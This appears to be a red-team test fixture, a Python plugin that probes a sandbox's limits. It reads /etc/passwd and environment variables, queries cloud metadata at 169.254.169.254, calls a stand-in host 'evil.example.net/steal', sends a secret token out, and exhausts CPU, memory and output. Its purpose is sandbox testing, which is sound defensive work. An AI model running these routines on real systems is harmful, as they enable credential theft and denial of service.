"""A hostile Python plugin for the sandbox tests. ``config.attack`` chooses what it does
when a read is opened or advanced; each attack tries for real and, should it succeed,
emits what it got as the row (column ``what`` of stream ``loot``):

- ``passwd``: reads ``/etc/passwd``;
- ``listdir``: lists ``/``;
- ``environ``: reads the environment, ``HOME`` and ``PATH`` (emits them as JSON);
- ``socket``: opens a TCP connection to ``config.url``'s host and port (default
  127.0.0.1:22);
- ``resolve``: resolves ``example.com``;
- ``host``: requests a host its manifest does not declare;
- ``metadata``: requests http://169.254.169.254/ (link-local);
- ``loopback``: requests ``config.url`` (a loopback address);
- ``loop``: spins forever in pure Python (CPU limit);
- ``memory``: allocates until it is stopped (memory limit);
- ``print``: prints without end (stdout limit);
- ``secret``: sends the secret ``token`` to ``config.url`` (an echo server) and logs and
  emits whatever comes back;
- ``none``: behaves (one batch of one row, then a checkpoint).

Nothing here catches an error: a refusal the plugin may see (an ``OSError``, a
``DeniedError``) propagates and becomes the plugin's error.
"""

# Every module is imported here, at build time: an import inside a function would run in
# the sandbox, with no files to import from.
import encodings.idna  # noqa: F401 - getaddrinfo encodes host names with it (a lazy import)
import json
import os
import socket
from dataclasses import dataclass
from urllib.parse import urlsplit

import inlet_pdk as pdk
from inlet_pdk.http import Request


@dataclass
class Config:
    attack: str
    url: str = ""


FIELDS = [pdk.field("what", pdk.UTF8, False)]


def passwd(c: Config) -> str:
    with open("/etc/passwd", encoding="utf-8") as f:
        return f.read()


def listdir(c: Config) -> str:
    return json.dumps(os.listdir("/"))


def environ(c: Config) -> str:
    seen = {"environ": dict(os.environ), "HOME": os.getenv("HOME"), "PATH": os.getenv("PATH")}
    return json.dumps(seen, sort_keys=True)


def connect(c: Config) -> str:
    target = urlsplit(c.url) if c.url else None
    host = (target and target.hostname) or "127.0.0.1"
    port = (target and target.port) or 22
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    return f"connected to {host}:{port}: {s.recv(1024)!r}"


def resolve(c: Config) -> str:
    return repr(socket.getaddrinfo("example.com", 443))


def host(c: Config) -> str:
    r = Request.get("https://evil.example.net/steal").send()
    return f"got {r.status}"


def metadata(c: Config) -> str:
    return Request.get("http://169.254.169.254/latest/meta-data/").send().text


def loopback(c: Config) -> str:
    return Request.get(c.url).send().text


def spin(c: Config) -> str:
    # A 64-bit LCG that never reaches 42 from this seed in any time that matters: the
    # interpreter must run every step.
    x = len(c.url) + 7
    while True:
        x = (x * 6364136223846793005 + 1) & 0xFFFFFFFFFFFFFFFF
        if x == 42:
            return str(x)


def memory(c: Config) -> str:
    hoard = []
    while True:
        hoard.append(bytes([len(hoard) & 0xFF]) * (1 << 20))
        if len(hoard) < 0:
            return str(len(hoard))


def shout(c: Config) -> str:
    lines = 0
    while True:
        print(f"{lines:08} " + "x" * 1000)
        lines += 1
        if lines < 0:
            return str(lines)


def secret(c: Config) -> str:
    r = Request.get(c.url).secret_header("Authorization", "token", "Bearer ").send()
    pdk.warn(f"stolen body: {r.text}")
    pdk.warn(f"stolen headers: {r.headers}")
    return f"{r.text} {r.headers}"


def none(c: Config) -> str:
    return "fine"


ATTACKS = {
    "passwd": passwd,
    "listdir": listdir,
    "environ": environ,
    "socket": connect,
    "resolve": resolve,
    "host": host,
    "metadata": metadata,
    "loopback": loopback,
    "loop": spin,
    "memory": memory,
    "print": shout,
    "secret": secret,
    "none": none,
}


class RedTeam(pdk.Plugin):
    def spec(self):
        return {
            "type": "object",
            "required": ["attack"],
            "properties": {"attack": {"type": "string"}, "url": {"type": "string"}},
        }

    def validate(self, config):
        pdk.parse_config(config, Config)

    def streams(self, config):
        return [pdk.Stream("loot", FIELDS)]

    def read(self, request):
        c = pdk.parse_config(request.config, Config)
        if c.attack not in ATTACKS:
            raise pdk.ConfigError("attack", f"unknown attack `{c.attack}`")
        b = pdk.BatchBuilder(FIELDS)
        b.append({"what": ATTACKS[c.attack](c)})
        yield b.finish()
        yield pdk.checkpoint({})
